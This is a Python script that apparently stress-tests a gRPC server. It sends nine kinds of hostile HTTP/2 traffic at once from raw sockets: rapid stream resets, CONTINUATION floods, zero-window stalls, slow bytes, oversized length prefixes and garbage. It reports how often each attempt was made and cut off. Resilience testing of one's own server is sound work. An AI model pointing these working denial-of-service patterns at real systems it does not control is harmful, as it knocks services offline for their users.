#!/usr/bin/python3
"""hostile.py - peers that mean harm to a gRPC server, all at once, over and over.

	hostile.py --target HOST:PORT --seconds N

Each kind has threads of its own, with raw sockets; prints how often each was tried and how often it
was cut off.  Exit 1: some kind was never tried.
"""

import argparse
import collections
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
MIB = 1 << 20


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(*more):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/proto.IngestLimits/ExceedsLimits"),
              (b":authority", b"x"), (b"te", b"trailers"), (b"content-type", b"application/grpc"), *more]
    return b"".join(literal(*field) for field in fields)


def call(stream, body, *more):
    return frame(HEADERS, END_HEADERS, stream, headers(*more)) + frame(DATA, 0, stream, body)


def odd(first=1):
    while True:
        yield first
        first += 2


QUESTION = b"\x0a\x07hostile" + b"\x12\x04\x08\x01\x10\x01"
MESSAGE = b"\0" + struct.pack(">I", len(QUESTION)) + QUESTION


# Each takes a connected socket and sends until it is cut off (OSError) or its time is over.

def rapid_reset(peer):
    for stream in odd():
        peer.sendall(frame(HEADERS, END_HEADERS, stream, headers()) + frame(RST, 0, stream, struct.pack(">I", 8)))


def continuation_flood(peer):
    peer.sendall(frame(HEADERS, 0, 1, headers()))
    while True:
        peer.sendall(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100))


def zero_window(peer):
    peer.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    for stream in odd():
        peer.sendall(call(stream, MESSAGE) + frame(DATA, END_STREAM, stream))
        time.sleep(0.01)


def slow_bytes(peer):
    for byte in call(1, MESSAGE):
        peer.sendall(bytes([byte]))
        time.sleep(0.2)
    while True:
        peer.sendall(frame(PING, 0, 0, b"12345678"))
        time.sleep(1)


def length_of_4_gib(peer):
    for stream in odd():
        peer.sendall(call(stream, b"\0\xff\xff\xff\xff" + b"x" * 1000))


def unknown_compression(peer):
    for stream in odd():
        peer.sendall(call(stream, b"\1" + MESSAGE[1:], (b"grpc-encoding", b"zstd")) + frame(DATA, END_STREAM, stream))


def never_reads(peer):
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    while True:
        peer.sendall(frame(PING, 0, 0, b"12345678") * 100)


def garbage(peer):
    noise = bytes(range(256)) * 64
    while True:
        peer.sendall(noise)


def unfinished(peer):
    for stream in odd():
        peer.sendall(frame(HEADERS, END_HEADERS, stream, headers()) + frame(DATA, 0, stream, b"\0" + struct.pack(">I", MIB) + b"x" * 16000))
        time.sleep(0.01)


KINDS = [rapid_reset, continuation_flood, zero_window, slow_bytes, length_of_4_gib, unknown_compression,
         never_reads, garbage, unfinished]


def attack(kind, address, until, tried, cut):
    while time.monotonic() < until:
        try:
            with socket.create_connection(address, 2) as peer:
                peer.settimeout(1)
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
                tried[kind.__name__] += 1
                if kind is not never_reads:
                    threading.Thread(target=drain, args=(peer,), daemon=True).start()
                run(kind, peer, until)
        except OSError:
            cut[kind.__name__] += 1
            time.sleep(0.02)


def drain(peer):
    try:
        while peer.recv(65536):
            pass
    except (OSError, ValueError):
        pass


class Over(Exception):
    pass


def run(kind, peer, until):
    """Until it is cut off, or the time is over."""

    class Socket:
        def __getattr__(self, name):
            return getattr(peer, name)

        def sendall(self, data):
            if time.monotonic() > until:
                raise Over
            peer.sendall(data)

    try:
        kind(Socket())
    except Over:
        pass


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True)
    parser.add_argument("--seconds", type=float, default=5)
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    tried, cut = collections.Counter(), collections.Counter()
    until = time.monotonic() + args.seconds
    threads = [threading.Thread(target=attack, args=(kind, (host, int(port)), until, tried, cut), daemon=True)
               for kind in KINDS for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(args.seconds + 10)
    for kind in KINDS:
        print(f"{kind.__name__} tried={tried[kind.__name__]} cut={cut[kind.__name__]}")
    raise SystemExit(0 if all(tried[kind.__name__] for kind in KINDS) else 1)


main()
